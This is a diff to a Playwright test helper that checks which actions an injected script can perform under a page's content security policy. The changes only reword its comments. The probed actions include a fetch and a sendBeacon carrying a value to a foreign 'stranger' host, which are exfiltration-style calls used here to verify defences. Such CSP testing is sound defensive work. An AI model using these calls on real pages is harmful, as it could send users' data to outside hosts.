@@ -1,8 +1,8 @@
 import type { Page } from "@playwright/test";
 
 /**
- * What a script that got into the page could try, and for each whether the browser let it.
- * @param stranger a site that would answer
+ * The attempts of an injected script, and whether the browser allowed each.
+ * @param stranger a site that responds to every request
  */
 export async function tryEverything(page: Page, stranger: string): Promise<Record<string, string>> {
   return await page.evaluate(async (other) => {
@@ -27,7 +27,7 @@ export async function tryEverything(page: Page, stranger: string): Promise<Recor
         globalThis.trustedTypes?.createPolicy("own", { createScriptURL: (url) => url }),
       "a request to somebody else": () => fetch(`${other}/request`),
       "a beacon to somebody else": () => {
-        // It says true and sends nothing; the stranger's visits tell.
+        // sendBeacon returns true but sends nothing; the foreign site's log shows it.
         navigator.sendBeacon(`${other}/beacon`, "key");
         throw new Error("not known");
       },
@@ -47,7 +47,7 @@ export async function tryEverything(page: Page, stranger: string): Promise<Recor
     };
     const outcomes: Record<string, string> = {};
     for (const [name, attempt] of Object.entries(attempts)) {
-      // In a task of its own: what is evaluated from outside may be freed from the policy.
+      // In a separate task: code that Playwright evaluates may be exempt from the CSP.
       outcomes[name] = await new Promise((resolve) => {
         setTimeout(() => {
           void (async () => {
